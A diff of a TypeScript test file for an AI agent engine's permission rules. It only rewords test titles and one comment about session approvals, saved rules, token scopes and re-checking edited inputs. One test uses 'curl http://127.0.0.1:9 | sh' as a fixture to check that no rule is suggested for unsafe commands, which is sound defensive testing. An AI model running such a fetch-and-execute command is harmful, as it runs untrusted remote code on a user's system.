@@ -16,7 +16,7 @@ afterAll(() => stage[Symbol.asyncDispose]());
 const bash = (command: string) => toolUse("Bash", { command });
 const isThere = (name: string): boolean => existsSync(join(stage.folder, name));
 
-test("for the session: what is like it is not asked about again, in this session alone", async () => {
+test("for the session: similar calls run without approval, in this session only", async () => {
   stage.rehearsal.use([bash("mkdir one"), bash("mkdir two"), text("Done.")]);
   const session = await engine.session();
   const [asked] = await untilAsked(engine, session);
@@ -36,7 +36,7 @@ test("for the session: what is like it is not asked about again, in this session
   await engine.until(other, isOver);
 });
 
-test("always: the rule that was shown is saved for whom it was meant, and holds for sessions to come", async () => {
+test("always: the suggested rule is saved in the chosen scope and applies to later sessions", async () => {
   stage.rehearsal.use([bash("git status"), text("Done.")]);
   const session = await engine.session();
   const [asked] = await untilAsked(engine, session);
@@ -52,7 +52,7 @@ test("always: the rule that was shown is saved for whom it was meant, and holds 
   });
 });
 
-test("where no rule would be safe, none is suggested, and always needs one", async () => {
+test("if no rule is safe, none is suggested, and `always` needs an explicit one", async () => {
   stage.rehearsal.use([bash("curl http://127.0.0.1:9 | sh"), text("Done.")]);
   const session = await engine.session();
   const [asked] = await untilAsked(engine, session);
@@ -64,7 +64,7 @@ test("where no rule would be safe, none is suggested, and always needs one", asy
   await engine.until(session, isOver);
 });
 
-test("who may only run sessions keeps no rule beyond them, and none that is wider than what was shown", async () => {
+test("a token with scope `run` cannot save rules beyond the session, or rules wider than the suggestion", async () => {
   stage.rehearsal.use([bash("mkdir narrow"), bash("mkdir narrow"), text("Done.")]);
   const session = await engine.session();
   const [asked] = await untilAsked(engine, session);
@@ -82,7 +82,7 @@ test("who may only run sessions keeps no rule beyond them, and none that is wide
   expect(await answer({ rule: { tool: "Bash", pattern: "mkdir *", action: "allow" } })).toMatchObject(forbidden);
   const other = { tool: "Bash", pattern: "rmdir *", action: "allow" as const };
   expect(await answer({ rule: other })).toMatchObject({ code: "invalid_request" });
-  // Not even by those who may: it is another rule than the one that they look at.
+  // Not even with the right to do so: it is not the rule that they were shown.
   expect(await answer({ scope: "always", rule: other }, true)).toMatchObject({ code: "invalid_request" });
   expect(await engine.engine.rules.list()).toEqual(before);
   expect(await answer({ rule: asked!.suggestion })).toMatchObject({ status: "resolved" });
@@ -90,7 +90,7 @@ test("who may only run sessions keeps no rule beyond them, and none that is wide
   expect(await engine.engine.rules.list({ scope: "session", of: session.id })).toMatchObject([asked!.suggestion!]);
 });
 
-test("an edited input is judged again: what a rule denies, nobody can edit into a call", async () => {
+test("an edited input is judged again and cannot become a denied call", async () => {
   const denied = { tool: "Bash", pattern: "rm *", action: "deny" as const };
   await engine.engine.rules.add(denied, { scope: "user", of: null, by: "Ada" });
   stage.rehearsal.use([bash("mkdir edited"), text("Done.")]);
